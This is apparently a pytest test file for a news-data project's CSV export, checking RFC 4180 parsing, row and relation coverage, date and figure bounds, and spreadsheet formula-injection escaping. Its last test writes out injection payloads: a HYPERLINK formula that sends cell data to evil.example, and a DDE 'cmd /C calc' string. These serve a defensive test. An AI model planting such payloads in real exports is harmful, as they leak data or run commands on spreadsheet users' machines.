"""The CSV files, read back by the csv module and by a reader of RFC 4180 written from its grammar."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.exports import csv_tables
from generator.exports.tables import relations
from generator.exports.tables.column import Column, table, written
from generator.graph.references import references
from generator.model.moment import Moment
from tests.exports.compiled import compiled
from tests.graph.story import SITE, actor, claim, correction, event, linked, location

HOST = replace(SITE, base_url="https://example.org/news")
SITES = ["model", "ours"]
NAMES = list(csv_tables.SHEETS)

RUN = tuple("=+-@\t\r\n＝＋－＠")
"""What a spreadsheet may take for the beginning of a formula."""


def rows(graph, name):
    text = csv_tables.write(graph, name).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def rfc_4180(text: str) -> list[list[str]]:
    """The records of a file: CRLF between them, fields by comma, quotes doubled in quotes (section 2)."""
    field = r'(?:"((?:[^"]|"")*)"|([^",\r\n]*))'
    records: list[list[str]] = []
    position = 0
    while position < len(text):
        record: list[str] = []
        while True:
            match = re.compile(field).match(text, position)
            assert match, text[position : position + 40]
            record.append(match[2] if match[1] is None else match[1].replace('""', '"'))
            position = match.end()
            if not text.startswith(",", position):
                break
            position += 1
        assert text.startswith("\r\n", position), text[position : position + 40]
        position += 2
        records.append(record)
    return records


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("site", SITES)
def test_two_readers_read_the_same_and_every_row_is_whole(site, name):
    text = csv_tables.write(compiled(site), name).decode()
    ours = rfc_4180(text)
    assert ours == list(csv.reader(io.StringIO(text, newline=""), strict=True))
    header, *body = ours
    assert len(set(header)) == len(header)
    assert {len(row) for row in body} <= {len(header)}


@pytest.mark.parametrize("site", SITES)
def test_there_is_a_row_for_every_record(site):
    graph = compiled(site)
    for name in ("events", "actors", "locations", "articles"):
        assert [row["id"] for row in rows(graph, name)] == [record.id for record in getattr(graph, name)]
    claims = [(one.id, str(said.figure)) for one in graph.events for said in one.claims]
    assert [(row["event_id"], row["figure"]) for row in rows(graph, "claims")] == claims


@pytest.mark.parametrize("site", SITES)
def test_there_is_a_row_for_every_relation(site):
    graph = compiled(site)
    found = {
        (row["from_kind"], row["from_id"], row["to_kind"], row["to_id"]) for row in rows(graph, "relations")
    }
    shelves = (*graph.events, *graph.articles, *graph.actors, *graph.locations)
    told = re.compile(
        "claims|statements|corrections|source$|actors|locations|sources|part_of|responds|follows|denies|in$|publisher|agency|based_on"
    )
    for record in shelves:
        kind = type(record).__name__.lower()
        for reference in references(record):
            assert told.search(reference.path), reference.path
            if re.search(r"claims|statements|corrections|roles\.\d+\.source", reference.path):
                continue
            if record in graph.withdrawn() or graph.find(reference.kind, reference.id) in graph.withdrawn():
                continue
            assert (kind, record.id, reference.kind, reference.id) in found
    assert relations.total(graph) == len(rows(graph, "relations"))


def test_a_date_is_edtf_and_bounds():
    (row,) = rows(linked(event("falls", "2014-08~")), "events")
    assert (row["date"], row["date_earliest"], row["date_latest"]) == ("2014-08~", "2014-08-01", "2014-08-31")
    assert row["date_approximate"] == "true"


def test_numbers_and_dates_stay_as_they_are():
    (row,) = rows(
        linked(
            event("colony", "-0043-03-15", locations="lima"),
            location("lima", "city", part_of="syria", coordinates=(-12.05, -77.03)),
        ),
        "events",
    )
    assert (row["date"], row["date_earliest"]) == ("-0043-03-15", "-0043-03-15")
    assert (float(row["latitude"]), float(row["longitude"])) == (-12.05, -77.03)


def test_no_degrees_for_what_is_only_known_as_an_area():
    (row,) = rows(
        linked(
            event("clash", locations="province raqqa"),
            location("province", "governorate", part_of="syria", coordinates=(35.9, 38.9)),
            location("raqqa", "city", part_of="syria", coordinates=(35.95, 39.01)),
        ),
        "events",
    )
    assert (row["latitude"], row["longitude"], row["location_ids"]) == ("", "", "province;raqqa")


def test_a_figure_has_bounds_and_says_whether_it_stands():
    first, second = rows(
        linked(
            event(
                "falls",
                claims=(
                    claim("at least 346", as_of="2014-08-25"),
                    claim("400", as_of="2014-08-26", stance="revises"),
                ),
            )
        ),
        "claims",
    )
    assert (first["figure"], first["figure_lower"], first["figure_upper"]) == ("at least 346", "346", "")
    assert (first["stands"], second["stands"]) == ("false", "true")
    assert (second["span_lower"], second["span_upper"], second["comparison"]) == (
        "400",
        "400",
        first["comparison"],
    )


def test_what_was_withdrawn_is_in_no_table():
    graph = linked(
        event(
            "false-report",
            actors="isil",
            claims=(claim("3"),),
            corrections=(correction("2014-09-02", "withdrawn"),),
        ),
        event("stands", part_of="false-report"),
    )
    assert [row["id"] for row in rows(graph, "events")] == ["stands"]
    assert rows(graph, "claims") == []
    assert not any("false-report" in row.values() for row in rows(graph, "relations"))


ANYTHING = st.text(st.characters(exclude_categories=["Cs"]), max_size=8)
HOSTILE = st.builds(
    str.__add__, st.text(st.sampled_from([*RUN, "'", " ", '"', ",", ";", "\u00a0"]), max_size=4), ANYTHING
)


@given(HOSTILE)
def test_no_text_is_run_as_a_formula(text):
    cell = written(text)
    assert not cell.lstrip().startswith(RUN)
    assert not cell.startswith(RUN)


@given(HOSTILE)
def test_a_guarded_text_can_be_had_back(text):
    cell = written(text)
    guarded = re.match(r"'[\s']*[=+\-@\t\r\n＝＋－＠]", cell)
    assert (cell[1:] if guarded else cell) == text


@given(st.lists(st.tuples(HOSTILE, HOSTILE), max_size=4))
def test_any_text_survives_both_readers(texts):
    columns = (Column("a", "", lambda _, row: row[0]), Column("b", "", lambda _, row: row[1]))
    text = table(linked(), columns, texts).decode()
    expected = [["a", "b"], *([written(a), written(b)] for a, b in texts)]
    assert rfc_4180(text) == expected
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == expected


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_a_number_is_never_guarded(number):
    assert float(written(number)) == float(number)


def test_a_hostile_site_harms_no_spreadsheet():
    attack = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    graph = linked(
        event("falls", title=attack, summary=attack, date_basis="@SUM(1)", locations="raqqa"),
        actor("isil", name="+1+cmd|' /C calc'!A0", aliases=("-1", "=2")),
        location("raqqa", "city", part_of="syria", name="\t=1"),
    )
    seen = [cell for name in NAMES for row in rows(graph, name) for cell in row.values()]
    assert f"'{attack}" in seen
    assert not [cell for cell in seen if cell.lstrip().startswith(RUN)]


def test_truth_and_nothing_have_one_form():
    assert [written(cell) for cell in (True, False, None, 0, "", Moment.parse("2014"))] == [
        "true",
        "false",
        "",
        "0",
        "",
        "2014",
    ]
